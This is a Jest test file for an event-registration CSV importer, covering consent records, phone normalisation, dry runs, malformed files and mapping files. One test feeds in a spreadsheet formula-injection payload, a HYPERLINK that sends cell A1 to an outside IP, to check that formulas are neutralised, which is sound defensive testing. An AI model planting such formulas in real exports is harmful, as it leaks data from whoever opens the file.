/** Registrations come in: once each, cleaned, and with nothing taken from a file that is not whole. */
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { Writable } from 'node:stream';
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { EX_DATAERR, EX_USAGE, runImport } from '../src/attendees/import/command.ts';
import { cellsOf, HEADER, openStage, type Position, pretixCsv, type Stage } from './support/import.ts';

let stage: Stage;
beforeEach(async () => {
  stage = await openStage('import');
});
afterEach(() => stage.close());

const counts = { created: 0, updated: 0, unchanged: 0, cancelled: 0, rejected: 0 };
const BEN: Position = {
  order: 'BEN01',
  orderEmail: 'ben@demo.example',
  email: 'ben@demo.example',
  name: 'Ben Okafor',
  invoiceName: 'Ben Okafor',
};

describe('a good file', () => {
  it('brings each paid registration once, private unless its form says otherwise', async () => {
    const csv = pretixCsv({}, { ...BEN, listed: 'Yes', showPhone: 'Yes' });
    expect((await stage.take(csv)).counts).toEqual({ ...counts, created: 2 });
    expect((await stage.take(csv)).counts).toEqual({ ...counts, unchanged: 2 });
    expect(await stage.person('Ada Archer')).toMatchObject({
      listed: false,
      registered: true,
      category: 'Member',
      organisation: 'Archers',
    });
    expect(await stage.person('Ben Okafor')).toMatchObject({
      listed: true,
      listing: { by: 'REGISTRATION_FORM' },
    });
    expect(await stage.shown('Ada Archer')).toEqual([]);
    expect(await stage.shown('Ben Okafor')).toEqual(['phone']);
    expect(await stage.values('Ada Archer')).toEqual({
      phone: '+447700900123',
      email: 'ada@demo.example',
      jobTitle: 'Engineer',
    });
  });

  it('keeps with each consent the question, the answer and the language, at the time of the database', async () => {
    await stage.take(pretixCsv({ showEmail: 'Yes', locale: 'de' }));
    const [consent] = await stage.deps.models.consents.find({}).lean().exec();
    expect(consent).toMatchObject({
      field: 'email',
      recipient: 'audience:*',
      withdrawnAt: null,
      open: true,
      evidence: {
        how: 'REGISTRATION_FORM',
        noticeText: 'Show to other attendees – E-mail Yes',
        language: 'de',
        session: null,
      },
    });
    expect(consent?.from).toBeInstanceOf(Date);
  });

  it('lists nobody and shows nothing when the file has no such questions', async () => {
    const without = (cells: readonly string[]) => cells.filter((_, i) => i < 15 || i > 18).join(',');
    const csv = [without(HEADER), without(cellsOf({ listed: 'Yes', showPhone: 'Yes' }))].join('\n');
    expect((await stage.take(csv)).counts.created).toBe(1);
    expect(await stage.person('Ada Archer')).toMatchObject({ listed: false, listing: { by: 'DEFAULT' } });
    expect(await stage.deps.models.consents.countDocuments({})).toBe(0);
  });

  it('takes the attendee’s Company, not the invoice’s, and none where only one column has that name', async () => {
    await stage.take(
      pretixCsv(
        { company: '', invoiceCompany: 'Payer Ltd' },
        { ...BEN, company: 'Okafor & Co', invoiceCompany: 'Payer Ltd' },
      ),
    );
    expect((await stage.person('Ada Archer')).organisation).toBe(null);
    expect((await stage.person('Ben Okafor')).organisation).toBe('Okafor & Co');
    const lone = (cells: readonly string[]) => cells.filter((_, i) => i !== 12).join(',');
    const cells = lone(
      cellsOf({
        order: 'C',
        orderEmail: 'c@demo.example',
        email: 'c@demo.example',
        name: 'Cy Lone',
        invoiceCompany: 'Payer Ltd',
      }),
    );
    await stage.take(`${lone(HEADER)}\n${cells}`);
    expect((await stage.person('Cy Lone')).organisation).toBe(null);
  });

  it('takes Variation for the category, else Product, and names without what stands before them', async () => {
    await stage.take(
      pretixCsv(
        { variation: '', product: 'Day ticket', name: 'Dr. Ada Archer', given: 'Ada', family: 'Archer' },
        { ...BEN, name: 'Prof. Dr. Ben Okafor' },
        {
          order: 'L',
          name: 'Louis Lord',
          given: 'Louis',
          family: 'Lord',
          email: 'l@demo.example',
          orderEmail: 'l@demo.example',
        },
      ),
    );
    expect((await stage.people()).map(({ name, category }) => [name, category])).toEqual([
      ['Ada Archer', 'Day ticket'],
      ['Ben Okafor', 'Member'],
      ['Louis Lord', 'Member'],
    ]);
  });

  it('goes to the event that the command names, and makes it', async () => {
    const report = await stage.take(pretixCsv({ slug: 'spring' }), { region: 'DE' });
    expect(await stage.deps.models.events.find({}).lean().exec()).toMatchObject([
      { slug: 'autumn', name: 'autumn', region: 'DE', notice: { version: '1' } },
    ]);
    expect(report.noticeCounts).toEqual({ OTHER_EVENT: 1 });
  });

  it('reads phones in the row’s country, else the event’s, and leaves out what is none', async () => {
    const one = (n: number, phone: string, country = 'GB'): Position => ({
      order: `P${n}`,
      name: `P ${n}`,
      invoiceName: `P ${n}`,
      email: `p${n}@demo.example`,
      orderEmail: `p${n}@demo.example`,
      phone,
      country,
    });
    const phones = [
      one(1, '030 23125 047', 'DE'),
      one(2, '07700 900 123', ''),
      one(3, 'call my office'),
      one(4, '0000000'),
      one(5, '’07700 900 124'),
      one(6, ''),
    ];
    const report = await stage.take(pretixCsv(...phones));
    expect((await stage.values('P 1')).phone).toBe('+493023125047');
    expect((await stage.values('P 2')).phone).toBe('+447700900123');
    expect((await stage.values('P 5')).phone).toBe('+447700900124');
    for (const n of [3, 4, 6]) expect(await stage.values(`P ${n}`)).not.toHaveProperty('phone');
    expect(report.noticeCounts).toEqual({ UNUSABLE_PHONE: 2 });
  });

  it('writes nothing in a dry run, and counts the same', async () => {
    const csv = pretixCsv({}, BEN, { ...BEN, order: 'X', status: 'Pending' }, { order: 'Y', name: '' });
    const dry = await stage.take(csv, { dryRun: true });
    expect(await stage.people()).toEqual([]);
    expect(await stage.deps.models.events.countDocuments({})).toBe(0);
    expect(
      await stage.deps.database.keys.collection('keys').countDocuments({ _id: /^SUBJECT/ } as object),
    ).toBe(0);
    expect((await stage.take(csv)).counts).toEqual(dry.counts);
    expect(dry.counts).toEqual({ ...counts, created: 2, cancelled: 1, rejected: 1 });
  });
});

describe('what stands in cells', () => {
  it('survives a BOM, CRLF in quotes, semicolons, empty lines and mixed line ends', async () => {
    const csv = pretixCsv({ jobTitle: 'Editor, "Politics"\r\nand Europe' }, BEN);
    expect((await stage.take(`\ufeff${csv.replace('\r\n', '\n\r\n')}`)).counts.created).toBe(2);
    expect((await stage.values('Ada Archer')).jobTitle).toBe('Editor, "Politics" and Europe');
    const semicolons = [HEADER, cellsOf({ order: 'S', name: 'Semi Colon' })]
      .map((cells) => cells.join(';'))
      .join('\r');
    expect((await stage.take(semicolons)).counts.created).toBe(1);
  });

  it('strips control and bidi characters, and keeps names of every script', async () => {
    const names = [
      'Gail Harding\u202e\u0007',
      '\u0000Nul Bytes\u0000',
      '桂兰 🎤 徐',
      'سارة العلي',
      'O’Brien-Łukasz',
      'क्ष\u200dत्रिय',
    ];
    const rows = names.map(
      (name, i): Position => ({
        order: `N${i}`,
        name,
        email: `n${i}@demo.example`,
        orderEmail: `n${i}@demo.example`,
      }),
    );
    await stage.take(pretixCsv(...rows));
    expect((await stage.people()).map(({ name }) => name).sort()).toEqual(
      ['Gail Harding', 'Nul Bytes', '桂兰 🎤 徐', 'سارة العلي', 'O’Brien-Łukasz', 'क्ष\u200dत्रिय'].sort(),
    );
    expect((await stage.person('O’Brien-Łukasz')).words).toEqual(['o', 'brien', 'łukasz', 'archers']);
  });

  it('takes a formula for text, and never writes one into a report', async () => {
    const formula = '=HYPERLINK("http://203.0.113.9/?x="&A1,"click")';
    await stage.take(pretixCsv({ jobTitle: formula }));
    expect((await stage.values('Ada Archer')).jobTitle).toBe(formula);
    const mapping = await stage.write(
      JSON.stringify({ source: 'own', columns: { id: '=ID', name: '@Name' } }),
      'm.json',
    );
    const report = await stage.take('=ID,@Name\n1,\n,Ada', { mapping });
    const rejects = await readFile(report.rejectsFile ?? '', 'utf8');
    expect(rejects).toContain(`2,"'@Name","there is no name"`);
    expect(rejects).toContain(`3,"'=ID","the id of the registration is empty or too long"`);
  });

  it('cuts a cell of a megabyte instead of refusing its row', async () => {
    const report = await stage.take(
      pretixCsv({ jobTitle: 'Senior '.repeat(150_000), name: `Ada ${'A'.repeat(1_000)}` }),
    );
    expect(report.counts.created).toBe(1);
    expect(report.noticeCounts).toEqual({ TOO_LONG: 2 });
    const [ada] = await stage.people();
    expect(ada?.name).toHaveLength(200);
    expect((await stage.values(ada?.name ?? '')).jobTitle).toHaveLength(200);
  });

  it('counts a blank or unknown answer as No, and reports the unknown', async () => {
    const report = await stage.take(
      pretixCsv({ listed: 'Maybe', showPhone: 'Ja', showEmail: '', showPhoto: 'yes ' }),
    );
    expect(await stage.shown('Ada Archer')).toEqual(['photo']);
    expect((await stage.person('Ada Archer')).listed).toBe(false);
    expect(report.noticeCounts).toEqual({ UNKNOWN_ANSWER: 2 });
    expect(report.notices[0]).toMatchObject({ line: 2, column: 'May other attendees find you in the app?' });
  });
});

describe('a bad row', () => {
  it('is rejected with line, column and reason, and never stops the rest', async () => {
    const short = 'autumn,SHORT,1,Paid';
    const csv = [
      pretixCsv({ jobTitle: 'two\r\nlines' }).trimEnd(),
      cellsOf({ order: 'N', name: ' \u202e ' }).join(','),
      short,
      cellsOf({ order: '' }).join(','),
      cellsOf({ order: 'ADA01' }).join(','),
      cellsOf({ order: 'U', status: 'Refunded' }).join(','),
      cellsOf(BEN).join(','),
    ].join('\r\n');
    const report = await stage.take(csv);
    expect(report.counts).toEqual({ ...counts, created: 2, cancelled: 1, rejected: 4 });
    expect(report.notices).toContainEqual(
      expect.objectContaining({ code: 'UNKNOWN_STATUS', line: 8, column: 'Status' }),
    );
    const rejects = (await readFile(report.rejectsFile ?? '', 'utf8')).trimEnd().split('\r\n').slice(1);
    expect(rejects.map((line) => line.replace(/,"[^"]*"$/, ''))).toEqual([
      '4,"Attendee name","there is no name"',
      '5,"Status","the row has 4 cells, the header 23"',
      '6,"Order code","the id of the registration is empty or too long"',
      '7,"Order code","the same id stands in a row above"',
    ]);
  });
});

describe('a bad file', () => {
  const good = pretixCsv({}, BEN);
  const cases: [string, string | Buffer, RegExp][] = [
    ['an unknown header', 'Name,Mail\nAda,ada@demo.example\n', /line 1: no known header/],
    ['an empty file', '', /is empty/],
    [
      'a missing column',
      good.replace('"Attendee email"', '"Other"'),
      /line 1: the column "Attendee email" is missing/,
    ],
    [
      'a column that occurs twice',
      good.replace('"Product"', '"Attendee email"'),
      /"Attendee email" occurs 2 times \(columns 7 and 12\)/,
    ],
    [
      'a quote that is never closed',
      `${good}"autumn,CUT`,
      /line 4: a quote that is opened in this row is never closed/,
    ],
    [
      'a row after a quoted line break, cut off',
      `${pretixCsv({ jobTitle: 'a\r\nb' })}"cut`,
      /line 4: a quote/,
    ],
    ['text after a closing quote', `${good}"autumn"x,1\n`, /line 4: text follows a closing quote/],
  ];

  it.each(cases)('with %s changes nothing and says where', async (_what, content, message) => {
    await expect(stage.take(content)).rejects.toThrow(message);
    expect(await stage.people()).toEqual([]);
    expect(await stage.deps.models.events.countDocuments({})).toBe(0);
  });

  it('changes nothing even when only the second of two files is bad', async () => {
    const files = [await stage.write(good), await stage.write(`${good}"cut`)];
    await expect(stage.take(good, { files })).rejects.toThrow(/never closed/);
    expect(await stage.people()).toEqual([]);
  });

  it('does not read on for ever behind a forgotten quote', async () => {
    await expect(stage.take(`${good}"${'x'.repeat(5_000_000)}`)).rejects.toThrow(
      /line 4: this row is larger than 4 MB/,
    );
  });
});

describe('a mapping file', () => {
  const mapping = {
    source: 'door-list',
    columns: {
      id: 'No',
      name: 'Who',
      email: 'Mail',
      phone: 'Mobile',
      status: 'State',
      listed: 'Findable?',
      organisation: { header: 'Org', occurrence: 2 },
    },
    paid: ['OK'],
    unpaid: ['void'],
    yes: ['Ja', 'Oui'],
    no: ['Nein', 'Non'],
    consents: [{ column: 'Phone for members', field: 'phone', recipient: 'audience:category:Member' }],
  };
  const csv =
    'No,Who,Mail,Mobile,State,Findable?,Phone for members,Org,Org\n7,Zoë Ng,zoe@demo.example,+44 7700 900555,ok,JA,oui,Payer,Own\n8,Al,,,Void,,,,\n';

  it('takes any other CSV', async () => {
    const report = await stage.take(csv, { mapping: await stage.write(JSON.stringify(mapping), 'map.json') });
    expect(report.counts).toEqual({ ...counts, created: 1, cancelled: 1 });
    expect(await stage.person('Zoë Ng')).toMatchObject({
      organisation: 'Own',
      listed: true,
      sources: [{ source: 'door-list', id: '7' }],
    });
    expect(await stage.values('Zoë Ng')).toEqual({ phone: '+447700900555', email: 'zoe@demo.example' });
    const consents = await stage.deps.models.consents.find({}).lean().exec();
    expect(consents).toMatchObject([{ field: 'phone', recipient: 'audience:category:Member' }]);
  });

  it.each([
    ['no JSON', '{"source": ', /is not JSON/],
    ['no id', { ...mapping, columns: { name: 'Who' } }, /columns\.id/],
    ['no name', { ...mapping, columns: { id: 'No' } }, /columns\.name: is missing/],
    [
      'a field that is not known',
      { ...mapping, columns: { ...mapping.columns, shoeSize: 'Size' } },
      /columns: does not know shoeSize/,
    ],
    [
      'a recipient that cannot be',
      { ...mapping, consents: [{ column: 'X', field: 'phone', recipient: 'everybody' }] },
      /consents\[0\]\.recipient: must be "audience:\*"/,
    ],
    [
      'a field that is not protected',
      { ...mapping, consents: [{ column: 'X', field: 'name', recipient: 'audience:*' }] },
      /consents\[0\]\.field/,
    ],
    ['a status without its words', { ...mapping, paid: [] }, /paid: must list the words/],
    [
      'a column that the file lacks',
      { ...mapping, columns: { ...mapping.columns, country: 'Land' } },
      /the column "Land" is missing/,
    ],
  ])('with %s is refused with its place', async (_what, content, message) => {
    const text = typeof content === 'string' ? content : JSON.stringify(content);
    await expect(stage.take(csv, { mapping: await stage.write(text, 'map.json') })).rejects.toThrow(message);
    expect(await stage.people()).toEqual([]);
  });
});

describe('the command', () => {
  const terminal = () => {
    const text = { out: '', err: '' };
    const into = (name: 'out' | 'err') =>
      new Writable({
        write: (chunk, _encoding, done) => {
          text[name] += chunk;
          done();
        },
      });
    return { text, out: into('out'), err: into('err') };
  };

  it('prints the counts first, one per line, in their order', async () => {
    const files = [await stage.write(pretixCsv({}, { order: 'B', name: '' }))];
    const screen = terminal();
    expect(
      await runImport(
        stage.deps,
        { files, event: 'autumn', dataDir: path.join(stage.folder, 'data') },
        screen,
      ),
    ).toBe(0);
    expect(screen.text.out.split('\n').slice(0, 5)).toEqual([
      'created: 1',
      'updated: 0',
      'unchanged: 0',
      'cancelled: 0',
      'rejected: 1',
    ]);
    expect(screen.text.out).toMatch(/^Rejected rows: .*\/data\/registrations-1\.csv\.rejects-.*\.csv$/m);
    expect(screen.text.err).toBe('');
  });

  it('shows the first rows of a dry run as they would arrive, and no address, phone or job title', async () => {
    const more = Array.from({ length: 12 }, (_, i) => ({ order: `M${i}`, name: `More ${i}` }));
    const rows = [{ listed: 'Yes', showPhone: 'Yes' }, { order: 'B', status: 'Pending' }, ...more];
    const files = [await stage.write(pretixCsv(...rows))];
    const screen = terminal();
    const command = { files, event: 'autumn', dryRun: true, dataDir: stage.folder };
    expect(await runImport(stage.deps, command, screen)).toBe(0);
    const lines = screen.text.out.split('\n').filter((line) => line.startsWith('  line '));
    expect(lines).toHaveLength(10);
    expect(lines[0]).toBe(
      '  line 2: Ada Archer · Member · listed · address of their own · has email, phone, jobTitle · shows phone to audience:*',
    );
    expect(lines[1]).toBe(
      '  line 4: More 0 · Member · not listed · no address of their own · has jobTitle · shows nothing',
    );
    expect(screen.text.out).not.toMatch(/@|7700|Engineer/);
    expect(await stage.people()).toEqual([]);
  });

  it('answers 65 for a bad file and 2 for a bad command, with one clear message', async () => {
    const files = [await stage.write('a,b\n1,2\n'), path.join(stage.folder, 'nowhere.csv')];
    const bad = terminal();
    expect(await runImport(stage.deps, { files, event: 'autumn', dataDir: stage.folder }, bad)).toBe(
      EX_DATAERR,
    );
    expect(bad.text.err).toMatch(/line 1: no known header.*\nNothing was imported\.\n$/);
    const missing = terminal();
    expect(
      await runImport(stage.deps, { files: files.slice(1), event: 'autumn', dataDir: stage.folder }, missing),
    ).toBe(EX_DATAERR);
    expect(missing.text.err).toMatch(/nowhere\.csv: does not exist/);
    const slug = terminal();
    expect(await runImport(stage.deps, { files, event: 'Autumn 2026!', dataDir: stage.folder }, slug)).toBe(
      EX_USAGE,
    );
    expect(slug.text.err).toMatch(/--event: must be a slug/);
  });
});
